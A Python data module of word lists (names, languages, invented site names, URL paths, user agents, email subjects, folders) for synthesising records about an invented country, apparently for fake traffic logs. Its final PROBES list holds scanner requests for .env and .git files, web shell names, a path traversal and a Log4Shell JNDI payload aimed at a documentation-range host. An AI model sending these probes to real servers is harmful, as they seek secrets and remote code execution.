"""Lists of words: the people, places and sites of an invented country. Nobody who exists is meant."""

from __future__ import annotations

from typing import Final

GIVEN: Final = (
    *("Aroha", "Wiremu", "Mere", "Tane", "Ngaire", "Hemi", "Kiri", "Rangi", "Moana", "Tamati", "Anahera", "Hoani"),
    *("Sina", "Tavita", "Leilani", "Sione", "Mele", "Ioane", "Priya", "Arjun", "Ananya", "Ravi", "Mei", "Wei"),
    *("Jun", "Haruto", "Min-ji", "Thanh", "Linh", "Fatima", "Omar", "Layla", "Ines", "Mateo", "Sofia", "Lucas"),
    *("Ben", "Alice", "Grace", "Oliver", "Charlotte", "Jack", "Ruby", "Noah", "Isla", "Liam", "Hazel", "Finn"),
    *("Maeve", "Callum", "Iris", "Hugh", "Zoë", "Jürgen", "Åsa", "Nuala", "Piotr", "Ewa", "Amara", "Kofi"),
)
FAMILY: Final = (
    *("Ngata", "Parata", "Te Rangi", "Mahuta", "Pomare", "Kereama", "Tamihana", "Wharepapa", "Hohepa", "Rewi"),
    *("Fale", "Leota", "Tuilagi", "Fonoti", "Vaipulu", "Sharma", "Patel", "Iyer", "Chen", "Zhang", "Liu"),
    *("Tanaka", "Kim", "Nguyen", "Haddad", "Rahman", "Costa", "Silva", "Moreau", "Okafor", "Mensah", "Novak"),
    *("Smith", "Walker", "Campbell", "Fraser", "Doyle", "O'Connor", "Hughes", "Baxter", "Lindqvist", "Berg"),
    *("Vogel", "Kowalska", "Marsh", "Holloway", "Pembroke", "Ashdown", "Carver", "Thorne", "Whitlock", "Ellery"),
)
LANGUAGES: Final = (("en-NZ", 66.0), ("mi", 16.0), ("sm", 5.0), ("zh", 4.0), ("hi", 4.0), ("to", 3.0), ("pt", 2.0))

# Of sites: two words and a top-level domain that RFC 2606 or RFC 6761 keep for such use.
FIRST: Final = (
    *("harbour", "kauri", "summit", "civic", "daily", "north", "blue", "open", "bright", "river", "metro", "true"),
    *("quick", "island", "stone", "green", "cloud", "market", "home", "southern", "public", "silver", "fern", "tide"),
)
SECOND: Final = (
    *("news", "post", "bank", "maps", "mail", "docs", "travel", "weather", "video", "shop", "social", "law"),
    *("library", "stats", "photos", "jobs", "health", "sports", "radio", "books", "metrics", "ads", "fonts", "cdn"),
)
PATHS: Final = (
    *("/", "/index.html", "/search", "/news/latest", "/api/v1/session", "/static/app.js", "/static/site.css"),
    *("/img/header.jpg", "/favicon.ico", "/article/{n}", "/video/{n}/manifest", "/collect", "/fonts/text.woff2"),
    *("/api/v2/feed?page={n}", "/pixel.gif?e={n}", "/track/open.gif?m={n}", "/download/report-{n}.pdf"),
)
_WINDOWS: Final = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
_PHONE: Final = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko)"
AGENTS: Final = (
    (f"{_WINDOWS} Chrome/140.0.0.0 Safari/537.36 Edg/140.0.0.0", 46.0),
    (f"{_WINDOWS} Chrome/141.0.0.0 Safari/537.36", 24.0),
    (f"{_PHONE} Version/18.6 Mobile/15E148 Safari/604.1", 14.0),
    ("Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0", 6.0),
    ("Mozilla/5.0 (compatible; civicbot/2.1; +https://civicbot.example/bot)", 4.0),
    ("python-requests/2.32.5", 2.0),
    ("curl/8.14.1", 1.5),
    ("Go-http-client/1.1", 1.5),
    ("-", 1.0),
)
SUBJECTS: Final = (
    *("Order paper for {day}", "Re: Select committee papers", "Amendments to clause {n}", "Minutes, draft {n}"),
    *("Your leave request", "Printer on level {n}", "Roster for next week", "Media summary {day}", "Hui on Thursday"),
    *("Constituent letter {n}", "Re: Re: travel booking", "Visitors' pass for {day}", "Question for written answer"),
    *("Newsletter of the library", "Invoice {n}", "Canteen menu", "Fwd: Submission {n}", "Translation of page {n}"),
)
DOCUMENTS: Final = (
    *("order-paper", "briefing", "minutes", "submission", "amendment", "speech-notes", "roster", "budget-estimates"),
    *("constituent-letter", "translation", "regulatory-impact", "agenda", "travel-itinerary", "media-summary"),
)
FOLDERS: Final = ("Committees", "Plenary", "Members", "Library", "Finance", "HR", "Translation", "Drafting", "IT")

# What scanners of the whole internet ask for, whoever runs the server.
PROBES: Final = (
    *("/.env", "/.git/config", "/wp-login.php", "/owa/auth/logon.aspx", "/shell.aspx", "/cmd.aspx", "/upload.php"),
    *("/phpmyadmin/", "/actuator/health", "/cgi-bin/luci", "/boaform/admin/formLogin", "/aspnet_client/", "/c99.php"),
    *("/api/sonicos/is-sslvpn-enabled", "/autodiscover/autodiscover.json?@x.example/mapi/nspi", "/vendor/phpunit/"),
    *("/server-status", "/config.json", "/backup.zip", "/?x=${jndi:ldap://203.0.113.250:1389/a}", "/%2e%2e/%2e%2e/etc"),
)
